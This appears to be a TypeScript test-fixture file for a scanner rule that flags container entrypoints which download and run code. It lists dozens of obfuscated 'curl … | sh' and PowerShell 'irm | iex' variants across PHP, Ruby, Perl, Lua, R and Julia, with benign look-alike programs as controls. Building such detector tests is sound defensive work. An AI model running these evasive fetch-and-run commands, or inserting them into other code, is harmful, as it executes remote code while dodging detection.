import { type Files, type ImageCase, image } from './image-case.ts';

const REST = 'rl -s https://files.backend.example/u | sh';
const FETCH = `cu${REST}`;
const BACK = [...FETCH].reverse().join('');
const TURNED = FETCH.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97));

function told(...Entrypoint: string[]): ImageCase {
  const name = `joined: ${Entrypoint.join(' ')}`;
  return { name, spec: image({}, { Entrypoint }), rule: 'start/download-and-run' };
}

/** Each handed on to the next: more than one pass over the program. */
const DEEP = Array.from(
  { length: 6 },
  (_, i) => `function f${6 - i}($x) { ${i === 0 ? 'system' : `f${7 - i}`}($x); }`,
);

/** Commands that programs of PHP, Perl, Ruby and Lua put together, or call by other names. All inert. */
export const JOINED_LANGUAGES: readonly ImageCase[] = [
  ...[
    `call_user_func('sys'.'tem', '${FETCH}');`,
    `call_user_func_array('system', ['${FETCH}']);`,
    `array_map('system', ['${FETCH}']);`,
    `$f = 'sys'.'tem'; $f('${FETCH}');`,
    `('sys'.'tem')('${FETCH}');`,
    `preg_replace_callback('/.*/', 'system', '${FETCH}');`,
    `register_shutdown_function('system', '${FETCH}');`,
    `assert('sys'.'tem("${FETCH}")');`,
    `eval('sys'.'tem("${FETCH}");');`,
    `(new ReflectionFunction('system'))->invoke('${FETCH}');`,
    `$f = Closure::fromCallable('system'); $f('${FETCH}');`,
    `$c = chr(99).chr(117).'${REST}'; exec($c);`,
    `define('C', 'cu'); popen(C.'${REST}', 'r');`,
    `pcntl_exec('/bin/sh', ['-c', '${FETCH}']);`,
    `$c = '${FETCH}'; $x = \`$c\`;`,
    `function a($x) { b($x); } function b($x) { system($x); } a('date'); a('cu'.'${REST}');`,
    `${DEEP.join(' ')} f1('cu'.'${REST}');`,
    `$a = ['x' => 'cu', 'y' => '${REST}']; system($a['x'] . $a['y']);`,
    `$f = function ($x) use ($y) { system($x); }; $f('cu' . '${REST}');`,
    `$f = fn($x) => system($x); $f('cu' . '${REST}');`,
    `ob_start('system'); echo 'cu' . '${REST}';`,
    `$h = popen('sh', 'w'); fwrite($h, 'cu' . '${REST}');`,
  ].map((code) => told('php', '-r', code)),
  ...[
    `Kernel.send(:system, "cu" + "${REST}")`,
    `send("sys"+"tem", "${FETCH}")`,
    `Kernel.method("sys"+"tem").call("cu" + "${REST}")`,
    `["${FETCH}"].each(&method(:system))`,
    `%x{${FETCH}}`,
    `system(*%w[sh -c], "${FETCH}")`,
    `require "open3"; Open3.pipeline(["curl", "-s", "https://files.backend.example/u"], "sh")`,
    `open("|" + "cu" + "${REST}")`,
    `IO.read("|${FETCH}")`,
    `IO.popen("sh", "w") { |p| p.puts "${FETCH}" }`,
    `instance_eval("sys" + "tem('${FETCH}')")`,
    `a = "cu"; a << "${REST}"; system a`,
    `def go(x) system(x) end; go("cu" + "${REST}")`,
    `c = <<~X\n  ${FETCH}\nX\nsystem c`,
    `system [99,117].pack("c*") + "${REST}"`,
    `system("c~u~${REST}".delete("~"))`,
  ].map((code) => told('ruby', '-e', code)),
  ...[
    `open(my $h, "|-", "sh"); print $h "${FETCH}\\n";`,
    `open(F, "${FETCH} |");`,
    `open(my $h, "-|", "cu" . "${REST}");`,
    `open my $h, "-|", qw(sh -c), "${FETCH}";`,
    `exec { "sh" } "sh", "-c", "${FETCH}";`,
    `my $c = "${TURNED}"; $c =~ tr/a-z/n-za-m/; system($c);`,
    `(my $c = "c~u~${REST}") =~ s/~//g; exec $c;`,
    `my $x = "x"; $x =~ s{x}{system("${FETCH}")}e;`,
    `my $c = <<'X';\n${FETCH}\nX\nsystem($c);`,
    `eval "sys"."tem('${FETCH}')";`,
    `sub go { my ($c) = @_; system($c); } go("date"); go("cu"."${REST}");`,
    `sub go { system(shift); } go("cu"."${REST}");`,
    `my @p = ("cu", "${REST}"); system(join "", @p);`,
    `system(scalar reverse "${BACK}");`,
    `use IPC::Open3; open3(my $i, my $o, undef, "cu"."${REST}");`,
    `use IPC::Run qw(run); run ["sh","-c","${FETCH}"];`,
    `my $x = substr("zz${FETCH}", 2); qx{$x};`,
    `my %h = (a => "cu", b => "${REST}"); system($h{a} . $h{b});`,
    `my $h = {a => "cu"}; system("$h->{a}${REST}");`,
    `my $s = sub { system(shift) }; $s->("cu" . "${REST}");`,
    `system "${FETCH}" if $ENV{A};`,
    `system '${FETCH}' or die "it's not there";`,
    `exec "${FETCH}" unless fork;`,
    `system '', or => "${FETCH}"; system '${FETCH} #'.\\n"x";`,
    `$_ = "a"; s". "exec '${FETCH}'"e;`,
    `eval "system '${FETCH}' ";`,
  ].map((code) => told('perl', '-e', code)),
  ...[
    `local f = os["exe".."cute"]; f("${FETCH}")`,
    `local e = os.execute e("${FETCH}")`,
    `_G["os"]["execute"]("${FETCH}")`,
    `os.execute [[${FETCH}]]`,
    `os.execute "${FETCH}"`,
    `load("os.exe".."cute('${FETCH}')")()`,
    `os.execute(string.char(99,117).."${REST}")`,
    `local function go(c) os.execute(c) end go("cu".."${REST}")`,
    `local p=assert(io.popen("sh","w")) p:write("cu","${REST}") p:close()`,
    `pcall(os.execute, "${FETCH}")`,
    `require("posix").execp("sh","-c","${FETCH}")`,
    `local t = {a = "cu", b = "${REST}"} os.execute(t.a .. t.b)`,
    `local t = {"cu", "${REST}"} os.execute(t[1] .. t[2])`,
    `local f = function(x) os.execute(x) end f("cu" .. "${REST}")`,
  ].map((code) => told('lua', '-e', code)),
  ...[
    `cmd <- '${FETCH}'; system(cmd, intern = TRUE)`,
    `do.call("system", list("${FETCH}"))`,
    `get("system")("${FETCH}")`,
  ].map((code) => told('Rscript', '-e', code)),
  ...[
    `(New-Object Net.WebClient).DownloadString('https://files.backend.example/u') | iex`,
    `& (gcm i*x) (irm https://files.backend.example/u)`,
    `[ScriptBlock]::Create((irm https://files.backend.example/u)).Invoke()`,
    `&('i'+'ex') (irm https://files.backend.example/u)`,
  ].map((code) => told('pwsh', '-c', code)),
  told('julia', '-e', `ccall(:system, Cint, (Cstring,), "${FETCH}")`),
  told('julia', '-e', `run(Cmd(["sh", "-c", "${FETCH}"]))`),
];

function honest(name: string, line: string, files: Files): ImageCase {
  return { name, spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }) };
}

/** The same ways, as programs use them for other things; what would fetch is only said. */
export const JOINED_LANGUAGE_TWINS: readonly ImageCase[] = [
  honest('PHP that calls functions by name and tells how to install', 'php a.php', {
    'app/a.php': [
      '<?php',
      "$hint = 'curl -s https://get.example/i' . ' | sh';",
      "echo array_map('strtoupper', [$hint])[0];",
      "call_user_func('printf', '%s', $hint);",
      "function run($c) { return shell_exec($c . ' 2>&1'); }",
      "run('git rev-parse HEAD'); run('date');",
      'register_shutdown_function(function () use ($hint) { error_log($hint); });',
      "$f = 'trim'; $f($hint);",
      "$t = ['hint' => 'curl -s https://get.example/i | sh', 'run' => 'date']; echo $t['hint']; system($t['run']);",
      '$say = function ($x) { echo $x; }; $say($hint); $up = fn($x) => strtoupper($x); $up($hint);',
      "ob_start('trim'); echo $hint; $h = popen('sort', 'w'); fwrite($h, $hint);",
      '',
    ].join('\n'),
  }),
  honest('Ruby that sends messages and runs tools', 'ruby a.rb', {
    'app/a.rb': [
      'hint = "curl -s https://get.example/i" + " | sh"',
      'puts hint; $stderr.send(:puts, hint); [hint].each(&method(:puts))',
      'def run(c) system("#{c} --version") end',
      'run("git"); run "ls"',
      'text = <<~EOS',
      '  curl -s https://get.example/i | sh',
      'EOS',
      'puts text; %w[a b].each { |x| puts x }; x = 7 %w if false',
      'IO.popen(["git", "log"]) { |p| p.each { |l| puts l } }',
      '',
    ].join('\n'),
  }),
  honest('Perl that pipes to programs and prints how to install', 'perl a.pl', {
    'app/a.pl': [
      'my $hint = "curl -s https://get.example/i"; $hint .= " | sh"; print STDERR $hint;',
      'open(my $m, "|-", "sort") or die; print $m "curl -s https://get.example/i | sh\\n";',
      'sub run { my ($c) = @_; return `$c --version`; } run("git"); run("ls");',
      'print <<EOT;',
      'curl -s https://get.example/i | sh',
      'EOT',
      '$hint =~ s/curl/wget/g; $hint =~ tr/a-z/A-Z/; eval { run("date") };',
      'my %t = (hint => "curl -s https://get.example/i | sh", run => "date"); print $t{hint}; system($t{run});',
      'my $say = sub { print shift }; $say->($hint);',
      'my $v = $ok ? open : 1; my $w = $ok ? system : exec;',
      // Words of calls in messages.
      `die("exec " . join(' ', @ARGV)) if $v; exec @ARGV or die('exec ' . join(' ', @ARGV) . " failed: $!");`,
      `if ($w) { die "unsupported version control system '$v'.\\n"; }`,
      `print "it is there";`,
      '',
    ].join('\n'),
  }),
  honest('PowerShell that makes blocks and downloads', 'pwsh -File a.ps1', {
    'app/a.ps1':
      '$b = [ScriptBlock]::Create("Get-Date")\n& $b\n$t = (New-Object Net.WebClient).DownloadString("https://api.example/v1") | ConvertFrom-Json\nGet-Command git | Out-Null\n',
  }),
  honest('Lua that loads and runs its own', 'lua a.lua', {
    'app/a.lua': [
      'local hint = "curl -s https://get.example/i" .. " | sh"',
      'print([[curl -s https://get.example/i | sh]]) io.write(hint)',
      'local function run(c) return io.popen(c .. " 2>&1"):read("*a") end',
      'local m = {hint = "curl -s https://get.example/i | sh", run = "date"} print(m.hint) os.execute(m.run)',
      'local say = function(x) print(x) end say(hint)',
      'run("git log") pcall(print, hint) local t = {"a", "b"} print(table.concat(t))',
      '',
    ].join('\n'),
  }),
];
